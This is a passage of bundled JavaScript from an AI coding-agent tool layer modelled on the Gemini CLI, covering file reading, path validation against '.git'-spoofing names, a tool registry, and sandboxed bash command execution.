    return node_path__WEBPACK_IMPORTED_MODULE_1___default().relative(from, to).split((node_path__WEBPACK_IMPORTED_MODULE_1___default().sep)).join('/');
}
/** True when a relative path (either separator) leaves its base: `..`, `../x`, or absolute. */
function escapes(relativePath) {
    if (node_path__WEBPACK_IMPORTED_MODULE_1___default().isAbsolute(relativePath))
        return true;
    const [first] = relativePath.split(/[\\/]/u);
    return first === '..';
}


/***/ }),

/***/ 86949:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   j: () => (/* binding */ PARAMETER_ALIASES),
/* harmony export */   w: () => (/* binding */ withGeminiNames)
/* harmony export */ });
/**
 * Where the specification and the current Gemini CLI name a tool's parameter differently, the
 * tool declares the specification's name and accepts the Gemini CLI's as an alias: alias →
 * declared name, per tool. One table, because the policy needs it too: a Gemini CLI user's
 * `argsPattern = '"file_path":"…"'` for `read_file` must see the call under that name.
 */
const PARAMETER_ALIASES = {
    read_file: { file_path: 'absolute_path' },
    list_directory: { dir_path: 'path' },
    glob: { dir_path: 'path' },
    search_file_content: { dir_path: 'path', include_pattern: 'include' },
    run_shell_command: { dir_path: 'directory' },
};
/** The tool's arguments under the Gemini CLI's current names (declared name → alias). */
function withGeminiNames(toolName, args) {
    const aliases = PARAMETER_ALIASES[toolName];
    if (aliases === undefined)
        return { ...args };
    const renamed = {};
    const geminiName = new Map(Object.entries(aliases).map(([alias, declared]) => [declared, alias]));
    for (const [key, value] of Object.entries(args))
        renamed[geminiName.get(key) ?? key] = value;
    return renamed;
}


/***/ }),

/***/ 11023:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   M$: () => (/* binding */ isGitName),
/* harmony export */   WG: () => (/* binding */ quotePath),
/* harmony export */   ik: () => (/* binding */ pathTextProblem),
/* harmony export */   oW: () => (/* binding */ hasGitSegment),
/* harmony export */   zN: () => (/* binding */ foldName)
/* harmony export */ });
/* unused harmony exports MAX_PATH_BYTES, MAX_NAME_BYTES */
/**
 * How file systems may spell the same name differently, and the path texts no file system takes.
 *
 * Linux compares names byte for byte, but workspaces also live on case-insensitive file systems
 * (macOS, Windows), on HFS+ (which ignores some invisible code points when comparing names) and
 * on NTFS (which drops trailing dots and spaces, treats `name:stream` as `name`, and gives short
 * `GIT~1` aliases). A name that any of them could take for `.git` counts as `.git`, so a write
 * refused on Linux is refused everywhere the same repository might be checked out.
 */
/** Linux's limits: 4096 bytes per path including the terminating NUL, 255 bytes per name. */
const MAX_PATH_BYTES = 4095;
const MAX_NAME_BYTES = 255;
// Code points that render as nothing: HFS+ skips some of them when comparing names, and a name
// that differs from `.git` only by them is meant to fool a human reading the transcript.
const INVISIBLE = /\p{Default_Ignorable_Code_Point}/gu;
/**
 * A name as a forgiving file system would compare it: compatibility-normalised (fullwidth
 * letters become ASCII), invisible code points dropped, and case-folded through upper case so
 * that letters whose capital is ASCII (`ı` → `I`) fold as well.
 */
function foldName(name) {
    const visible = name.normalize('NFKC').replace(INVISIBLE, '').normalize('NFKC');
    return visible.toUpperCase().toLowerCase().normalize('NFKC');
}
/** Whether some file system could take this single path segment for a `.git` entry. */
function isGitName(segment) {
    let folded = foldName(segment);
    // NTFS: `.git::$INDEX_ALLOCATION` and `.git:x` name streams of `.git`.
    const colon = folded.indexOf(':');
    if (colon !== -1)
        folded = folded.slice(0, colon);
    // Win32 drops trailing dots and spaces: `.git.` and `.git ` open `.git`.
    folded = folded.replace(/[. ]+$/u, '');
    return folded === '.git' || folded === 'git~1';
}
/** Whether any segment of a relative or absolute path could be a `.git` entry. */
function hasGitSegment(somePath) {
    return somePath.split(/[\\/]+/u).some((segment) => segment !== '' && isGitName(segment));
}
/** Problems with the text of a path that no file system call could get past. */
function pathTextProblem(absolutePath) {
    if (absolutePath.includes('\0'))
        return 'nul_byte';
    if (Buffer.byteLength(absolutePath) > MAX_PATH_BYTES)
        return 'too_long';
    const names = absolutePath.split(/[\\/]+/u);
    if (names.some((name) => Buffer.byteLength(name) > MAX_NAME_BYTES))
        return 'too_long';
    return null;
}
const SHOWN_PATH_CHARS = 300;
/**
 * A path as error messages quote it: NUL bytes made visible and very long paths cut, so one
 * hostile argument cannot fill the model's context with its own echo.
 */
function quotePath(somePath) {
    const visible = somePath.replaceAll('\0', '\\0');
    if (visible.length <= SHOWN_PATH_CHARS)
        return visible;
    return `${visible.slice(0, SHOWN_PATH_CHARS)}… (${visible.length} characters)`;
}


/***/ }),

/***/ 61174:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   RE: () => (/* binding */ createReadFileTool),
/* harmony export */   Wb: () => (/* binding */ looksBinary),
/* harmony export */   ZZ: () => (/* binding */ DEFAULT_MAX_LINES),
/* harmony export */   g7: () => (/* binding */ decodeText),
/* harmony export */   l6: () => (/* binding */ MAX_LINE_LENGTH),
/* harmony export */   sO: () => (/* binding */ MAX_FILE_SIZE_MB),
/* harmony export */   uy: () => (/* binding */ detectFileType),
/* harmony export */   vk: () => (/* binding */ READ_FILE_TOOL_NAME)
/* harmony export */ });
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(41514);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(46316);
/* harmony import */ var _define_tool_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(96511);
/* harmony import */ var _parameter_aliases_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(86949);
/**
 * `read_file`: text with line paging, media as inline data, everything else refused politely.
 * Strings the model reads follow the Gemini CLI, so prompts written for it keep working.
 */





const READ_FILE_TOOL_NAME = 'read_file';
const DEFAULT_MAX_LINES = 2000;
const MAX_LINE_LENGTH = 2000;
const MAX_FILE_SIZE_MB = 20;
const SVG_MAX_BYTES = 1024 * 1024;
const parameters = zod__WEBPACK_IMPORTED_MODULE_3__/* .object */ .Ikc({
    absolute_path: zod__WEBPACK_IMPORTED_MODULE_3__/* .string */ .YjP()
        .describe("The path of the file to read: absolute (e.g. '/home/user/project/file.txt') or relative to the workspace root."),
    offset: zod__WEBPACK_IMPORTED_MODULE_3__/* .number */ .aig()
        .describe("Optional: for text files, the 0-based line number to start reading from. Use with 'limit' to page through large files.")
        .optional(),
    limit: zod__WEBPACK_IMPORTED_MODULE_3__/* .number */ .aig()
        .describe(`Optional: for text files, the maximum number of lines to read (default ${DEFAULT_MAX_LINES}). Use with 'offset' to page through large files.`)
        .optional(),
});
function createReadFileTool(options) {
    const { workspace } = options;
    const filtering = options.fileFiltering ?? { respectGitIgnore: true, respectGeminiIgnore: true };
    return (0,_define_tool_js__WEBPACK_IMPORTED_MODULE_4__/* .defineTool */ .u)({
        name: READ_FILE_TOOL_NAME,
        displayName: 'ReadFile',
        description: `Reads and returns the content of a specified file. If the file is large, the content will be truncated; the response then says so and tells how to read more with the 'offset' and 'limit' parameters. Handles text, images (PNG, JPG, GIF, WEBP, SVG, BMP), audio (MP3, WAV, AIFF, AAC, OGG, FLAC), video and PDF files. For text files, it can read specific line ranges.`,
        kind: 'read',
        parameters,
        parameterAliases: _parameter_aliases_js__WEBPACK_IMPORTED_MODULE_2__/* .PARAMETER_ALIASES */ .j.read_file,
        validate(params) {
            if (params.absolute_path.trim() === '') {
                return {
                    message: "The 'absolute_path' parameter must be non-empty.",
                    type: 'invalid_tool_params',
                };
            }
            const resolved = workspace.resolve(params.absolute_path, { purpose: 'read' });
            if (!resolved.ok)
                return resolved.error;
            if (params.offset !== undefined && (params.offset < 0 || !Number.isInteger(params.offset))) {
                return { message: 'Offset must be a non-negative integer', type: 'invalid_tool_params' };
            }
            if (params.limit !== undefined && (params.limit <= 0 || !Number.isInteger(params.limit))) {
                return { message: 'Limit must be a positive integer', type: 'invalid_tool_params' };
            }
            const filter = workspace.fileFilter(filtering);
            if (resolved.root === workspace.root && filter.isIgnored(resolved.relativePath)) {
                return {
                    message: `File path '${resolved.absolutePath}' is ignored by configured ignore patterns.`,
                    type: 'invalid_tool_params',
                };
            }
            return null;
        },
        invocation(params) {
            const resolved = workspace.resolve(params.absolute_path, { purpose: 'read' });
            const shown = resolved.ok
                ? workspace.displayPath(resolved.absolutePath)
                : params.absolute_path;
            const description = `Read ${shown}${describeRange(params)}`;
            return {
                describe: () => description,
                locations: () => [resolved.ok ? resolved.relativePath : params.absolute_path],
                confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm Read File', prompt: description }),
                execute: () => readForModel(workspace, params),
            };
        },
    });
}
function describeRange({ offset, limit }) {
    if (offset === undefined && limit === undefined)
        return '';
    const first = (offset ?? 0) + 1;
    if (limit === undefined)
        return ` (from line ${first})`;
    return ` (lines ${first}-${first + limit - 1})`;
}
function failure(llmContent, returnDisplay, message, type) {
    return { llmContent, returnDisplay, error: { message, type } };
}
async function readForModel(workspace, params) {
    // Checked again, on the open handle: the file system may have changed since validation.
    const opened = await workspace.openVerified(params.absolute_path, { purpose: 'read' });
    if (!opened.ok)
        return openFailure(workspace, opened);
    const { handle, stats, absolutePath: filePath } = opened;
    const shown = workspace.displayPath(filePath);
    try {
        if (stats.isDirectory())
            return directoryFailure(filePath);
        const sizeMb = stats.size / (1024 * 1024);
        if (sizeMb > MAX_FILE_SIZE_MB) {
            const limitText = `File size exceeds the ${MAX_FILE_SIZE_MB}MB limit`;
            return failure(`${limitText}.`, `${limitText}.`, `${limitText}: ${filePath} (${sizeMb.toFixed(2)}MB)`, 'file_too_large');
        }
        const bytes = await handle.readFile();
        return contentResult(bytes, { filePath, shown, params });
    }
    catch (error) {
        return readFailure(shown, filePath, (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .errorMessage */ .gJ)(error));
    }
    finally {
        await handle.close();
    }
}
function openFailure(workspace, opened) {
    if (opened.reason === 'not_in_workspace') {
        return failure(opened.message, 'Path not in workspace.', opened.message, 'path_not_in_workspace');
    }
    const filePath = opened.absolutePath;
    switch (opened.reason) {
        case 'not_found':
            return failure('Could not read file because no file was found at the specified path.', 'File not found.', `File not found: ${filePath}`, 'file_not_found');
        case 'is_directory':
            return directoryFailure(filePath);
        case 'not_regular_file':
            // FIFOs and devices would block or never end.
            return failure('Could not read file because the provided path is not a regular file.', 'Path is not a regular file.', `Path is not a regular file: ${filePath}`, 'read_content_failure');
        case 'failed':
            return readFailure(workspace.displayPath(filePath), filePath, opened.message);
    }
}
function directoryFailure(filePath) {
    return failure('Could not read file because the provided path is a directory, not a file.', 'Path is a directory.', `Path is a directory, not a file: ${filePath}`, 'target_is_directory');
}
function readFailure(shown, filePath, message) {
    return failure(`Error reading file ${shown}: ${message}`, `Error reading file ${shown}: ${message}`, `Error reading file ${filePath}: ${message}`, 'read_content_failure');
}
function contentResult(bytes, context) {
    const { filePath, shown } = context;
    const type = detectFileType(filePath, bytes);
    switch (type.kind) {
        case 'binary':
            return {
                llmContent: `Cannot display content of binary file: ${shown}`,
                returnDisplay: `Skipped binary file: ${shown}`,
            };
        case 'svg':
            if (bytes.length > SVG_MAX_BYTES) {
                return {
                    llmContent: `Cannot display content of SVG file larger than 1MB: ${shown}`,
                    returnDisplay: `Skipped large SVG file (>1MB): ${shown}`,
                };
            }
            return { llmContent: decodeText(bytes), returnDisplay: `Read SVG as text: ${shown}` };
        case 'unsupported_audio': {
            const supported = 'Supported audio formats are MP3, WAV, AIFF, AAC, OGG, and FLAC.';
            return failure(`Could not read audio file because its format is not supported. ${supported}`, `Unsupported audio file format: ${shown}`, `Unsupported audio file format for ${filePath}. ${supported}`, 'read_content_failure');
        }
        case 'media':
            return {
                llmContent: { inlineData: { mimeType: type.mimeType, data: bytes.toString('base64') } },
                returnDisplay: `Read ${type.label} file: ${shown}`,
            };
        case 'text':
            return textResult(decodeText(bytes), context);
    }
}
function textResult(content, { shown, params }) {
    const lines = content.split(/\r?\n/);
    const total = lines.length;
    const start = Math.min(params.offset ?? 0, total);
    const end = Math.min(start + (params.limit ?? DEFAULT_MAX_LINES), total);
    let shortened = false;
    const selected = [];
    for (const line of lines.slice(start, end)) {
        if (line.length <= MAX_LINE_LENGTH) {
            selected.push(line);
            continue;
        }
        shortened = true;
        selected.push(`${line.slice(0, MAX_LINE_LENGTH)}... [truncated]`);
    }
    const rangeCut = start > 0 || end < total;
    const body = selected.join('\n');
    const note = shortened ? ' (some lines were shortened)' : '';
    if (!rangeCut && !shortened) {
        return { llmContent: body, returnDisplay: `Read all ${total} lines from ${shown}` };
    }
    const returnDisplay = rangeCut
        ? `Read lines ${start + 1}-${end} of ${total} from ${shown}${note}`
        : `Read all ${total} lines from ${shown}${note}`;
    const llmContent = `
IMPORTANT: The file content has been truncated.
Status: Showing lines ${start + 1}-${end} of ${total} total lines.
Action: To read more of the file, you can use the 'offset' and 'limit' parameters in a subsequent 'read_file' call. For example, to read the next section of the file, use offset: ${end}.

--- FILE CONTENT (truncated) ---
${body}`;
    return { llmContent, returnDisplay };
}
const IMAGE_TYPES = {
    '.png': 'image/png',
    '.jpg': 'image/jpeg',
    '.jpeg': 'image/jpeg',
    '.gif': 'image/gif',
    '.webp': 'image/webp',
    '.bmp': 'image/bmp',
    '.ico': 'image/vnd.microsoft.icon',
    '.tif': 'image/tiff',
    '.tiff': 'image/tiff',
    '.heic': 'image/heic',
    '.heif': 'image/heif',
    '.avif': 'image/avif',
};
const AUDIO_TYPES = {
    '.mp3': 'audio/mpeg',
    '.wav': 'audio/wav',
    '.aiff': 'audio/aiff',
    '.aif': 'audio/aiff',
    '.aac': 'audio/aac',
    '.ogg': 'audio/ogg',
    '.flac': 'audio/flac',
};
/** Audio formats the model cannot take. */
const OTHER_AUDIO = new Set(['.m4a', '.mid', '.midi', '.opus', '.weba', '.wma']);
const VIDEO_TYPES = {
    '.mp4': 'video/mp4',
    '.mpeg': 'video/mpeg',
    '.mpg': 'video/mpeg',
    '.mov': 'video/quicktime',
    '.webm': 'video/webm',
    '.3gp': 'video/3gpp',
    '.avi': 'video/x-msvideo',
    '.flv': 'video/x-flv',
    '.wmv': 'video/x-ms-wmv',
    '.mkv': 'video/x-matroska',
};
/** Known binary formats, refused without looking at their bytes. */
const BINARY_EXTENSIONS = new Set(('.7z .a .bin .bz2 .class .dat .dll .doc .docx .dylib .exe .gz .jar .lib .o .obj .odp .ods ' +
    '.odt .pak .ppt .pptx .pyc .pyo .rar .rpa .so .tar .war .wasm .xls .xlsx .zip').split(' '));
function detectFileType(filePath, bytes) {
    const ext = node_path__WEBPACK_IMPORTED_MODULE_0___default().extname(filePath).toLowerCase();
    if (ext === '.svg')
        return { kind: 'svg' };
    const image = IMAGE_TYPES[ext];
    if (image)
        return { kind: 'media', mimeType: image, label: 'image' };
    if (ext === '.pdf')
        return { kind: 'media', mimeType: 'application/pdf', label: 'pdf' };
    const audio = AUDIO_TYPES[ext];
    const video = VIDEO_TYPES[ext];
    if (audio || video || OTHER_AUDIO.has(ext)) {
        // A text file with a media extension (a playlist, a transcript) is still read as text.
        if (!looksBinary(bytes))
            return { kind: 'text' };
        if (audio)
            return { kind: 'media', mimeType: audio, label: 'audio' };
        if (video)
            return { kind: 'media', mimeType: video, label: 'video' };
        return { kind: 'unsupported_audio' };
    }
    if (BINARY_EXTENSIONS.has(ext) || looksBinary(bytes))
        return { kind: 'binary' };
    return { kind: 'text' };
}
const SNIFF_BYTES = 512;
/**
 * The usual heuristic over the first 512 bytes: a NUL byte, or more than 10% of bytes that are
 * neither printable ASCII, common control characters nor valid UTF-8 sequences, means binary.
 */
function looksBinary(bytes) {
    if (bytes.length === 0)
        return false;
    if (bomOf(bytes))
        return false;
    if (bytes.subarray(0, 5).toString('latin1') === '%PDF-')
        return true;
    const scan = Math.min(bytes.length, SNIFF_BYTES);
    let suspicious = 0;
    for (let i = 0; i < scan; i += 1) {
        const byte = bytes[i] ?? 0;
        if (byte === 0)
            return true;
        const plain = (byte >= 7 && byte <= 14) || (byte >= 32 && byte <= 127);
        if (plain)
            continue;
        const sequence = utf8SequenceLength(bytes, i);
        if (sequence > 0) {
            i += sequence - 1;
            continue;
        }
        suspicious += 1;
        if (i >= 32 && (suspicious * 100) / scan > 10)
            return true;
    }
    return (suspicious * 100) / scan > 10;
}
/** The length of a valid multi-byte UTF-8 sequence starting at `index`, or 0. */
function utf8SequenceLength(bytes, index) {
    const lead = bytes[index] ?? 0;
    const length = lead >= 0xc0 && lead <= 0xdf ? 2 : lead >= 0xe0 && lead <= 0xef ? 3 : 0;
    const total = lead >= 0xf0 && lead <= 0xf7 ? 4 : length;
    if (total === 0 || index + total > bytes.length)
        return 0;
    for (let k = 1; k < total; k += 1) {
        const next = bytes[index + k] ?? 0;
        if (next < 0x80 || next > 0xbf)
            return 0;
    }
    return total;
}
function bomOf(bytes) {
    const [b0, b1, b2, b3] = [bytes[0], bytes[1], bytes[2], bytes[3]];
    if (b0 === 0xff && b1 === 0xfe && b2 === 0 && b3 === 0)
        return { encoding: 'utf32le', length: 4 };
    if (b0 === 0 && b1 === 0 && b2 === 0xfe && b3 === 0xff)
        return { encoding: 'utf32be', length: 4 };
    if (b0 === 0xef && b1 === 0xbb && b2 === 0xbf)
        return { encoding: 'utf8', length: 3 };
    if (b0 === 0xff && b1 === 0xfe)
        return { encoding: 'utf16le', length: 2 };
    if (b0 === 0xfe && b1 === 0xff)
        return { encoding: 'utf16be', length: 2 };
    return null;
}
/** UTF-8 unless a byte-order mark says otherwise; the mark itself is dropped. */
function decodeText(bytes) {
    const bom = bomOf(bytes);
    if (!bom)
        return bytes.toString('utf8');
    const body = bytes.subarray(bom.length);
    switch (bom.encoding) {
        case 'utf8':
            return body.toString('utf8');
        case 'utf16le':
            return body.toString('utf16le');
        case 'utf16be': {
            const swapped = Buffer.from(body.subarray(0, body.length - (body.length % 2)));
            return swapped.swap16().toString('utf16le');
        }
        case 'utf32le':
        case 'utf32be': {
            const littleEndian = bom.encoding === 'utf32le';
            let text = '';
            for (let i = 0; i + 4 <= body.length; i += 4) {
                const code = littleEndian ? body.readUInt32LE(i) : body.readUInt32BE(i);
                const valid = code <= 0x10ffff && !(code >= 0xd800 && code <= 0xdfff);
                text += valid ? String.fromCodePoint(code) : '\uFFFD';
            }
            return text;
        }
    }
}


/***/ }),

/***/ 64988:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Y: () => (/* binding */ editDistance),
/* harmony export */   m: () => (/* binding */ ToolRegistry)
/* harmony export */ });
/** How many names an unknown-tool error suggests (as the Gemini CLI does). */
const SUGGESTION_COUNT = 3;
class ToolRegistry {
    byName = new Map();
    aliases = new Map();
    /** Adds a tool; a name or alias that is already taken is a programming error and throws. */
    register(tool, options = {}) {
        this.assertFree(tool.name);
        const aliases = options.aliases ?? [];
        for (const alias of aliases) {
            if (alias === tool.name)
                continue;
            this.assertFree(alias);
        }
        this.byName.set(tool.name, tool);
        for (const alias of aliases) {
            if (alias !== tool.name)
                this.aliases.set(alias, tool.name);
        }
    }
    /** The tool registered under `name`, or under the name `name` is an alias of. */
    get(name) {
        const tool = this.byName.get(name);
        if (tool)
            return tool;
        const canonical = this.aliases.get(name);
        return canonical === undefined ? undefined : this.byName.get(canonical);
    }
    /** Removes every tool `keep` rejects, with its aliases (settings that leave tools out). */
    retain(keep) {
        for (const [name, tool] of this.byName) {
            if (keep(tool))
                continue;
            this.byName.delete(name);
            for (const [alias, target] of this.aliases) {
                if (target === name)
                    this.aliases.delete(alias);
            }
        }
    }
    /** Lets every tool release what it holds (background processes, connections); never throws. */
    async dispose() {
        await Promise.allSettled(this.tools().map((tool) => (tool.dispose ? tool.dispose() : Promise.resolve())));
    }
    /** Every tool, in registration order. */
    tools() {
        return [...this.byName.values()];
    }
    /** Every tool's name (aliases excluded), in registration order. */
    names() {
        return [...this.byName.keys()];
    }
    /** What the model is offered: `tools: [{functionDeclarations: registry.declarations()}]`. */
    declarations(filter) {
        return this.tools()
            .filter((tool) => tool.undeclared !== true && (filter ? filter(tool) : true))
            .map((tool) => tool.declaration());
    }
    /** A new registry with the tools `keep` accepts, under the same names and aliases. */
    subset(keep) {
        const subset = new ToolRegistry();
        for (const tool of this.tools()) {
            if (!keep(tool))
                continue;
            const aliases = [...this.aliases].filter(([, target]) => target === tool.name);
            subset.register(tool, { aliases: aliases.map(([alias]) => alias) });
        }
        return subset;
    }
    /**
     * What the model reads after calling a tool that does not exist, with the registered names
     * closest by edit distance: `Tool "X" not found. Did you mean one of: "a", "b", "c"?`.
     */
    notFoundMessage(name) {
        const closest = this.names()
            .map((candidate, index) => ({ candidate, index, distance: editDistance(name, candidate) }))
            // Ties keep registration order, so the message is stable.
            .sort((a, b) => a.distance - b.distance || a.index - b.index)
            .slice(0, SUGGESTION_COUNT)
            .map(({ candidate }) => `"${candidate}"`);
        const base = `Tool "${name}" not found.`;
        if (closest.length === 0)
            return base;
        if (closest.length === 1)
            return `${base} Did you mean ${closest.join('')}?`;
        return `${base} Did you mean one of: ${closest.join(', ')}?`;
    }
    assertFree(name) {
        if (this.byName.has(name) || this.aliases.has(name)) {
            throw new Error(`A tool named "${name}" is already registered.`);
        }
    }
}
/** Levenshtein distance: single-character insertions, deletions and substitutions. */
function editDistance(a, b) {
    let previous = Array.from({ length: b.length + 1 }, (_, index) => index);
    for (let i = 1; i <= a.length; i += 1) {
        const current = [i];
        for (let j = 1; j <= b.length; j += 1) {
            const substitution = (previous[j - 1] ?? 0) + (a[i - 1] === b[j - 1] ? 0 : 1);
            const deletion = (previous[j] ?? 0) + 1;
            const insertion = (current[j - 1] ?? 0) + 1;
            current.push(Math.min(substitution, deletion, insertion));
        }
        previous = current;
    }
    return previous[b.length] ?? 0;
}


/***/ }),

/***/ 85917:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  wE: () => (/* binding */ RUN_SHELL_COMMAND_TOOL_NAME),
  dV: () => (/* binding */ createRunShellCommandTool),
  Kr: () => (/* binding */ shellRunOf)
});

// UNUSED EXPORTS: DEFAULT_INACTIVITY_TIMEOUT_MS, DEFAULT_KILL_GRACE_MS, DEFAULT_TOTAL_TIMEOUT_MS, shellRootCommands

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
var schemas = __webpack_require__(41514);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/platform/logger.ts
var platform_logger = __webpack_require__(63255);
// EXTERNAL MODULE: ./src/platform/process-group.ts
var process_group = __webpack_require__(70192);
// EXTERNAL MODULE: ./src/platform/tool-environment.ts
var tool_environment = __webpack_require__(4861);
// EXTERNAL MODULE: ./src/tools/define-tool.ts
var define_tool = __webpack_require__(96511);
// EXTERNAL MODULE: ./src/tools/parameter-aliases.ts
var parameter_aliases = __webpack_require__(86949);
// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
;// CONCATENATED MODULE: ./src/tools/shell-execution.ts



/**
 * Started as `bash -c LAUNCHER bash <command>`: points stderr at the stdout pipe and replaces
 * itself (same PID, so it stays the group leader) with `bash -c <command>`. The command reaches
 * the inner shell as an argument, byte for byte, so nothing about it is rewritten or re-parsed.
 */
const LAUNCHER = 'exec "$0" -c "$1" 2>&1';
/**
 * Once the shell has exited, output it wrote is already in the pipe; it is read until the pipe
 * closes or stays quiet this long. A background process may hold the pipe open forever, and the
 * call must not wait for it.
 */
const DRAIN_IDLE_MS = 50;
const DRAIN_MAX_MS = 1000;
async function executeShellCommand(options) {
    const shell = options.shell ?? 'bash';
    let program;
    try {
        const command = {
            argv: [shell, '-c', LAUNCHER, shell, options.command],
            env: options.env,
            cwd: options.cwd,
        };
        // A sandbox that cannot take the command fails the call: it never runs unconfined instead.
        program = options.sandbox ? await wrapped(options.sandbox, command) : command;
    }
    catch (error) {
        return notStarted(error);
    }
    return new Promise((resolve) => {
        let child;
        try {
            const [file = shell, ...args] = program.argv;
            child = (0,external_node_child_process_.spawn)(file, args, {
                cwd: program.cwd,
                env: program.env,
                stdio: ['ignore', 'pipe', 'pipe'],
                detached: true,
            });
        }
        catch (error) {
            // Arguments Node refuses outright, such as a command containing a NUL byte.
            resolve(notStarted(error));
            return;
        }
        new Execution(child, options, resolve).start();
    });
}
async function wrapped(sandbox, command) {
    const program = await sandbox.wrap(command);
    return { argv: program.argv, env: { ...program.env }, cwd: program.cwd };
}
function notStarted(error) {
    return {
        exitCode: null,
        signal: null,
        error: error instanceof Error ? error : new Error((0,errors/* errorMessage */.gJ)(error)),
        pgid: undefined,
        backgroundPids: [],
        stopped: undefined,
    };
}
class Execution {
    child;
    options;
    resolve;
    stopped;
    hasExited = false;
    killing;
    collecting = true;
    settled = false;
    inactivityTimer;
    totalTimer;
    streams;
    onAbort = () => {
        this.stop('aborted');
    };
    constructor(child, options, resolve) {
        this.child = child;
        this.options = options;
        this.resolve = resolve;
        this.streams = [child.stdout, child.stderr].filter((stream) => stream !== null);
    }
    start() {
        const { child, options } = this;
        if (child.pid !== undefined)
            options.tracker.started(child.pid);
        // Data keeps being read after the result is in, and dropped: a background process that
        // inherited the pipe must neither block on a full pipe nor die of SIGPIPE.
        child.stdout?.on('data', (chunk) => {
            this.receive(chunk, 'stdout');
        });
        child.stderr?.on('data', (chunk) => {
            this.receive(chunk, 'stderr');
        });
        for (const stream of this.streams)
            stream.on('error', () => undefined);
        child.on('error', (error) => {
            // Spawning failed (no bash on PATH, the directory vanished): there is no process to wait for.
            if (child.pid === undefined)
                this.settle(notStarted(error));
            else
                options.logger.debug(`run_shell_command: process error: ${(0,errors/* errorMessage */.gJ)(error)}`);
        });
        child.on('exit', (code, signal) => {
            void this.exited(code, signal);
        });
        if (options.signal.aborted)
            this.stop('aborted');
        else
            options.signal.addEventListener('abort', this.onAbort, { once: true });
        this.resetInactivityTimer();
        if (options.totalTimeoutMs > 0) {
            this.totalTimer = setTimeout(() => {
                this.stop('total');
            }, options.totalTimeoutMs);
        }
    }
    receive(chunk, stream) {
        if (!this.collecting)
            return;
        this.options.output.push(chunk, stream);
        this.resetInactivityTimer();
        this.options.onOutput?.();
    }
    resetInactivityTimer() {
        if (this.options.inactivityTimeoutMs <= 0 || this.settled || this.stopped)
            return;
        clearTimeout(this.inactivityTimer);
        this.inactivityTimer = setTimeout(() => {
            this.stop('inactivity');
        }, this.options.inactivityTimeoutMs);
    }
    stop(reason) {
        const pgid = this.child.pid;
        // Once the shell has exited, what is left in its group is reported as background processes.
        if (this.stopped || this.hasExited || this.settled || pgid === undefined)
            return;
        this.stopped = reason;
        this.clearTimers();
        this.options.logger.debug(`run_shell_command: stopping process group ${pgid} (${reason})`);
        this.killing = (0,process_group/* killProcessGroup */.$X)(pgid, { graceMs: this.options.killGraceMs });
    }
    async exited(code, signal) {
        this.hasExited = true;
        this.clearTimers();
        const pgid = this.child.pid;
        let backgroundPids = [];
        if (this.killing) {
            // Whatever else was in the group is being killed too; wait until it is gone.
            await this.killing;
        }
        else if (pgid !== undefined) {
            backgroundPids = await (0,process_group/* listProcessGroup */.rR)(pgid);
        }
        await Promise.all(this.streams.map((stream) => drain(stream)));
        this.collecting = false;
        this.options.output.finish();
        for (const stream of this.streams)
            unref(stream);
        if (pgid !== undefined)
            this.options.tracker.finished(pgid, backgroundPids);
        this.settle({
            exitCode: code,
            signal,
            error: null,
            pgid,
            backgroundPids,
            stopped: this.stopped,
        });
    }
    settle(result) {
        if (this.settled)
            return;
        this.settled = true;
        this.clearTimers();
        this.options.signal.removeEventListener('abort', this.onAbort);
        this.resolve(result);
    }
    clearTimers() {
        clearTimeout(this.inactivityTimer);
        clearTimeout(this.totalTimer);
        this.inactivityTimer = undefined;
        this.totalTimer = undefined;
    }
}
/** Resolves when the stream has closed, or has been quiet for a moment, whichever comes first. */
function drain(stream) {
    if (stream.closed || stream.destroyed || stream.readableEnded)
        return Promise.resolve();
    return new Promise((resolve) => {
        let idle;
        const done = () => {
            clearTimeout(idle);
            clearTimeout(cap);
            stream.off('data', restartIdle);
            stream.off('close', done);
            stream.off('end', done);
            resolve();
        };
        const restartIdle = () => {
            clearTimeout(idle);
            idle = setTimeout(done, DRAIN_IDLE_MS);
        };
        const cap = setTimeout(done, DRAIN_MAX_MS);
        stream.on('data', restartIdle);
        stream.once('close', done);
        stream.once('end', done);
        restartIdle();
    });
}
/** A pipe still held by a background process must not keep this program from exiting. */
function unref(stream) {
    const handle = stream;
    if (typeof handle.unref === 'function')
        handle.unref();
}

// EXTERNAL MODULE: ./src/tools/shell-output.ts
var shell_output = __webpack_require__(63819);
// EXTERNAL MODULE: ./src/tools/tool-processes.ts
var tool_processes = __webpack_require__(90161);
;// CONCATENATED MODULE: ./src/tools/run-shell-command.ts
/**
 * `run_shell_command`: runs `bash -c <command>` in the workspace, in its own process group, with
 * an allow-listed environment, and answers the model in the Gemini CLI's format (Command,
 * Directory, Output, Error, Exit Code, Signal, Background PIDs, Process Group PGID).
 */












const RUN_SHELL_COMMAND_TOOL_NAME = 'run_shell_command';
/** A command printing nothing for this long is stopped (the Gemini CLI's default). */
